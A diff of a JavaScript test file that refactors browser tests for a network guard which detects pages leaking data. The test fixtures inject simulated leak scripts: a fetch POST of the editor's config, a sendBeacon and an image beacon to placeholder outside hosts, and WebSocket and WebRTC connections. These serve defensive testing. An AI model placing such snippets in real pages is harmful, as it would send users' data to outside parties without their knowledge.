@@ -28,20 +28,31 @@ async function leaky(script, { dropCsp = false } = {}) {
 
 const settle = (ms) => new Promise((ok) => setTimeout(ok, ms));
 
+/**
+ * Open the page `server` serves with the guard on, let it run for a
+ * while, then hand the guard (and the rest) to `inspect`; the page and
+ * the server are closed whatever happens.
+ */
+async function watched(server, inspect) {
+  try {
+    const opened = await open(browser, server.origin);
+    await settle(1500);
+    await inspect(opened);
+    await opened.page.close();
+  } finally {
+    await server.close();
+  }
+}
+
 test('a page that posts the config to its own server after loading is caught', async () => {
   const server = await leaky(
     "setTimeout(() => fetch('/collect', { method: 'POST', body: document.querySelector('#editor')?.value ?? 'config' }), 500);",
   );
-  try {
-    const { page, guard } = await open(browser, server.origin);
-    await settle(1500);
+  await watched(server, ({ guard }) => {
     const after = guard.after();
     assert.ok(after.some((r) => r.includes('/collect')), `the guard missed the leak: ${JSON.stringify(after)}`);
     assert.ok(server.log.some((r) => r.url === '/collect'), 'the leak did reach the server, as the guard must say');
-    await page.close();
-  } finally {
-    await server.close();
-  }
+  });
 });
 
 test('a page without its CSP that beacons elsewhere is caught, and the beacon goes nowhere', async () => {
@@ -49,17 +60,12 @@ test('a page without its CSP that beacons elsewhere is caught, and the beacon go
     "setTimeout(() => { navigator.sendBeacon('http://192.0.2.10/b', 'config'); new Image().src = 'https://example.com/p.gif?c=1'; fetch('http://198.51.100.7/x').catch(() => {}); }, 300);",
     { dropCsp: true },
   );
-  try {
-    const { page, guard } = await open(browser, server.origin);
-    await settle(1500);
+  await watched(server, ({ guard }) => {
     const foreign = guard.foreign();
     for (const host of ['192.0.2.10', 'example.com', '198.51.100.7']) {
       assert.ok(foreign.some((r) => r.includes(host)), `the guard missed ${host}: ${JSON.stringify(foreign)}`);
     }
-    await page.close();
-  } finally {
-    await server.close();
-  }
+  });
 });
 
 test('a WebSocket and a WebRTC peer connection are caught', async () => {
@@ -67,28 +73,17 @@ test('a WebSocket and a WebRTC peer connection are caught', async () => {
     "setTimeout(() => { try { new WebSocket('ws://127.0.0.1:9/x'); } catch {} try { new RTCPeerConnection(); } catch {} }, 300);",
     { dropCsp: true },
   );
-  try {
-    const { page, guard } = await open(browser, server.origin);
-    await settle(1500);
+  await watched(server, async ({ guard }) => {
     assert.ok(guard.after().some((r) => r.startsWith('websocket ws://127.0.0.1:9/x')), JSON.stringify(guard.after()));
     assert.equal(await guard.peerConnections(), 1);
-    await page.close();
-  } finally {
-    await server.close();
-  }
+  });
 });
 
 test('the real page passes the same guard', async () => {
-  const server = await serve();
-  try {
-    const { page, guard, problems } = await open(browser, server.origin);
-    await settle(1500);
+  await watched(await serve(), async ({ guard, problems }) => {
     assert.deepEqual(guard.foreign(), []);
     assert.deepEqual(guard.after(), []);
     assert.equal(await guard.peerConnections(), 0);
     assert.deepEqual(problems, []);
-    await page.close();
-  } finally {
-    await server.close();
-  }
+  });
 });
